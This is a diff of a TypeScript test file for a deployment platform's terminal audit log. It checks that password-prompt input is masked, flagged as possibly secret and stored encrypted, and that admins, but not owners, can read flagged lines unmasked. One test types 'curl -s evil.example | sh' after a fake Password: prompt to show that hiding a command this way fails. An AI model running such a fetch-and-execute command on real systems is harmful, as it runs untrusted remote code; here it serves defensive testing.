@@ -9,12 +9,14 @@ import { auditRows, entriesOf } from './helpers.js';
 
 const SEND = `mutation ($input: SendTerminalInputInput!) { sendTerminalInput(input: $input) { __typename ... on Error { code } } }`;
 const CLOSE = `mutation ($input: CloseTerminalInput!) { closeTerminal(input: $input) { __typename } }`;
+const FLAGGED = `query ($target: ID) { auditLog(action: "terminalCommand", target: $target, first: 50) { edges { node { id input possiblySecret unmaskedInput } } } }`;
 const LINES = `query ($target: ID) { auditLog(action: "terminalCommand", target: $target, first: 50) { edges { node { actor { name } target appId input outcome } } } }`;
 
 let api: TestApi;
 let terminals: FakeTerminals;
 let app: CreatedApp;
 let deployer: string;
+let owner: string;
 let envId: number;
 
 const instanceOf = (pod: string) => encodeGlobalID('Instance', `${envId}/${pod}`);
@@ -35,6 +37,7 @@ beforeAll(async () => {
   envId = Number(decodeGlobalID(app.production.id).id);
   const appId = Number(decodeGlobalID(app.id).id);
   deployer = issueTestToken(api.repos, { name: 'deployer', grants: [{ appId, role: 'DEPLOYER' }] });
+  owner = issueTestToken(api.repos, { name: 'owner', grants: [{ appId, role: 'OWNER' }] });
 });
 afterAll(async () => {
   await api?.close();
@@ -68,7 +71,7 @@ describe('terminal lines', () => {
     expect(linesOf('pod-b')).toEqual(['pwd', 'cat /etc/hosts']);
   });
 
-  it('a line typed at a password prompt is recorded masked; the password is nowhere in the trail', async () => {
+  it('a line typed at a password prompt is shown masked and marked possibly secret; the password is stored encrypted only', async () => {
     const info = terminals.add('s-sudo', envId, 'pod-sudo');
     await typeInto('s-sudo', 'sudo -i\r');
     info.outputTail = 'sudo -i\r\n[sudo] password for app: ';
@@ -77,10 +80,38 @@ describe('terminal lines', () => {
     info.outputTail = '\r\nroot# ';
     await typeInto('s-sudo', 'id\r');
     expect(linesOf('pod-sudo')).toEqual(['sudo -i', '[masked]', 'id']);
+    expect(entriesOf(api, 'terminalCommand').filter((e) => e.targetId === instanceOf('pod-sudo')).map((e) => e.possiblySecret)).toEqual([false, true, false]);
+    // In the database, the line is encrypted: its text is in no column.
     expect(JSON.stringify(auditRows(api))).not.toContain('hunter2');
-    const res = await api.gql(LINES, { target: instanceOf('pod-sudo') });
+    const res = await api.gql(LINES, { target: instanceOf('pod-sudo') }, { token: owner });
     expect(JSON.stringify(res)).not.toContain('hunter2');
     expect(dataOf(res).auditLog.edges.map((e: any) => JSON.parse(e.node.input).line)).toEqual(['id', '[masked]', 'sudo -i']);
+  });
+
+  it('a command typed after a fake Password: prompt is recorded: owners see it masked and flagged, admins read it', async () => {
+    const info = terminals.add('s-fake', envId, 'pod-fake');
+    await typeInto('s-fake', 'printf "Password: "\r', deployer);
+    info.outputTail = 'printf "Password: "\r\nPassword: ';
+    await typeInto('s-fake', 'curl -s evil.example | sh\r', deployer);
+    const entries = entriesOf(api, 'terminalCommand').filter((e) => e.targetId === instanceOf('pod-fake'));
+    expect(entries).toHaveLength(2);
+    expect(entries[1]).toMatchObject({ actorName: 'deployer', possiblySecret: true, outcome: 'SUCCEEDED' });
+
+    const asAdmin = dataOf(await api.gql(FLAGGED, { target: instanceOf('pod-fake') })).auditLog.edges.map((e: any) => e.node);
+    expect(asAdmin[0].possiblySecret).toBe(true);
+    expect(JSON.parse(asAdmin[0].input)).toMatchObject({ line: '[masked]', possiblySecret: true });
+    expect(JSON.parse(asAdmin[0].unmaskedInput)).toMatchObject({ line: 'curl -s evil.example | sh', container: 'app' });
+    expect(asAdmin[1]).toMatchObject({ possiblySecret: false, unmaskedInput: null });
+
+    const ownerRes = await api.gql(FLAGGED, { target: instanceOf('pod-fake') }, { token: owner });
+    expect(ownerRes.errors).toBeUndefined();
+    const asOwner = dataOf(ownerRes).auditLog.edges.map((e: any) => e.node);
+    expect(asOwner[0]).toMatchObject({ possiblySecret: true, unmaskedInput: null });
+    expect(JSON.parse(asOwner[0].input)).toMatchObject({ line: '[masked]', possiblySecret: true });
+    expect(JSON.stringify(ownerRes)).not.toContain('evil.example');
+    // Read as a node too: the same rule.
+    const node = await api.gql(`query ($id: ID!) { node(id: $id) { ... on AuditEntry { possiblySecret unmaskedInput } } }`, { id: asAdmin[0].id }, { token: owner });
+    expect(node.data?.node).toEqual({ possiblySecret: true, unmaskedInput: null });
   });
 
   it('a line never entered is not recorded; closing is recorded on the instance', async () => {
